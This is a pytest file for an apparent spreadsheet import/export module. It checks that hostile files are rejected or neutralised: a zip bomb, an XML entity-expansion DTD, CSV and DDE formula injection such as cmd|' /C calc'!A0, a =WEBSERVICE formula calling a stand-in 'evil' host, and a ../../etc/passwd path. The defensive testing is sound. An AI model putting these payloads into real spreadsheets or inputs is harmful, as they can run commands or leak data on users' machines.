"""Hostile spreadsheets: each attack is refused with one clear reason and writes nothing."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from ca_desktop.reports import sheet_reader
from ca_desktop.reports.columns import csv_text
from ca_desktop.reports.sheet_reader import UnreadableFile
from ca_desktop.reports.spreadsheet_export import export_csv
from ca_desktop.reports.spreadsheet_import import ImportRejected, import_spreadsheet
from ca_desktop.services.app import CaDesktop


def _workbook(path: Path, rows: list[list[object]], title: str = "organisation") -> Path:
    wb = Workbook()
    ws = wb.active
    ws.title = title
    for row in rows:
        ws.append(row)
    wb.save(path)
    return path


def test_zip_bomb_is_refused_before_openpyxl_opens_it(
    app: CaDesktop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The real limit is hundreds of MB; the same check at 8 MB keeps the test quick.
    monkeypatch.setattr(sheet_reader, "MAX_UNCOMPRESSED", 8 * 2**20)
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            chunk = b"\0" * (1 << 20)
            for _ in range(sheet_reader.MAX_UNCOMPRESSED // len(chunk) + 1):
                fh.write(chunk)
    assert path.stat().st_size < 2**20 < sheet_reader.MAX_FILE_BYTES
    with pytest.raises(UnreadableFile, match="unpacks to more than"):
        import_spreadsheet(app, path, "organisation")


def test_entity_expansion_is_refused(app: CaDesktop, tmp_path: Path) -> None:
    path = _workbook(tmp_path / "lol.xlsx", [["name", "type"], ["A", "ngo"]])
    with zipfile.ZipFile(path) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    dtd = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    head, _, rest = parts[sheet].partition(b"?>")
    parts[sheet] = head + b"?>" + dtd + rest
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    with pytest.raises(UnreadableFile, match="DTD"):
        import_spreadsheet(app, path, "organisation")
    assert app.count("organisation") == 0


def test_not_a_zip_and_a_damaged_xlsx(app: CaDesktop, tmp_path: Path) -> None:
    (tmp_path / "fake.xlsx").write_bytes(b"PK\x03\x04 not really")
    with pytest.raises(UnreadableFile, match="not an XLSX file"):
        import_spreadsheet(app, tmp_path / "fake.xlsx")
    path = tmp_path / "cut.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("xl/workbook.xml", "<workbook><sheets>")
    with pytest.raises(UnreadableFile):
        import_spreadsheet(app, path)


def test_formula_cells_are_data_never_evaluated(app: CaDesktop, tmp_path: Path) -> None:
    path = _workbook(
        tmp_path / "f.xlsx",
        [["name", "type", "contact"], ['=WEBSERVICE("http://evil/")', "ngo", "=1+1"]],
    )
    result = import_spreadsheet(app, path, "organisation")
    assert result.created == 1
    [org] = app.list_records("organisation")
    assert org.body["name"] == '=WEBSERVICE("http://evil/")'
    assert org.body["contact"] == "=1+1"


def test_formula_in_a_number_column_is_rejected(
    app: CaDesktop, settlement_id: str, tmp_path: Path
) -> None:
    path = _workbook(
        tmp_path / "n.xlsx",
        [
            ["name", "kind", "parent_id", "households"],
            ["X", "settlement", settlement_id, "=A1*1000"],
        ],
        title="place",
    )
    with pytest.raises(ImportRejected) as caught:
        import_spreadsheet(app, path, "place")
    [problem] = caught.value.report.problems
    assert (problem.row, problem.column) == (2, "households")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_neutralises_injection(start: str) -> None:
    assert csv_text(start + "cmd|' /C calc'!A0").startswith("'")
    assert csv_text(-5) == "-5"  # numbers stay numbers


def test_exported_injection_round_trips_exactly(app: CaDesktop, tmp_path: Path) -> None:
    app.save("organisation", {"name": "@SUM(1+1)*cmd", "type": "ngo", "contact": "-2+3"})
    export_csv(app, "organisation", tmp_path / "o.csv")
    text = (tmp_path / "o.csv").read_text(encoding="utf-8-sig")
    assert "'@SUM(1+1)*cmd" in text and ",'-2+3" in text
    result = import_spreadsheet(app, tmp_path / "o.csv")
    assert (result.unchanged, result.updated) == (1, 0)


def test_too_many_columns_rows_and_long_cells(
    app: CaDesktop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    wide = tmp_path / "wide.csv"
    header = ["name", "type"] + [f"c{i}" for i in range(sheet_reader.MAX_COLUMNS)]
    wide.write_text(",".join(header) + "\nA,ngo\n", encoding="utf-8")
    with pytest.raises(ImportRejected, match="problem"):
        import_spreadsheet(app, wide, "organisation")
    import ca_desktop.reports.spreadsheet_import as imp

    monkeypatch.setattr(imp, "MAX_ROWS", 3)
    many = tmp_path / "many.csv"
    many.write_text("name,type\n" + "A,ngo\n" * 5, encoding="utf-8")
    with pytest.raises(ImportRejected) as caught:
        import_spreadsheet(app, many, "organisation")
    assert "more than 3 rows" in caught.value.report.problems[-1].reason
    long = tmp_path / "long.csv"
    buf = io.StringIO()
    csv.writer(buf).writerows([["name", "type", "contact"], ["A", "ngo", "x" * 40_000]])
    long.write_text(buf.getvalue(), encoding="utf-8")
    with pytest.raises(ImportRejected) as caught:
        import_spreadsheet(app, long, "organisation")
    assert caught.value.report.problems[0].column == "contact"
    assert app.count("organisation") == 0


def test_oversized_file_is_refused_unread(
    app: CaDesktop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sheet_reader, "MAX_FILE_BYTES", 100)
    big = tmp_path / "big.csv"
    big.write_text("name,type\n" + "A,ngo\n" * 50, encoding="utf-8")
    with pytest.raises(UnreadableFile, match="larger than"):
        import_spreadsheet(app, big, "organisation")


def test_binary_and_broken_csv(app: CaDesktop, tmp_path: Path) -> None:
    nul = tmp_path / "nul.csv"
    nul.write_bytes(b"name,type\nA\x00,ngo\n")
    with pytest.raises(UnreadableFile, match="NUL"):
        import_spreadsheet(app, nul, "organisation")
    quote = tmp_path / "quote.csv"
    quote.write_text('name,type\n"A"x,ngo\n', encoding="utf-8")
    with pytest.raises(UnreadableFile, match="row 2"):
        import_spreadsheet(app, quote, "organisation")


def test_a_path_in_a_cell_is_only_text(app: CaDesktop, tmp_path: Path) -> None:
    path = tmp_path / "p.csv"
    path.write_text("name,type\n../../etc/passwd,ngo\n", encoding="utf-8")
    import_spreadsheet(app, path, "organisation")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "p.csv"]
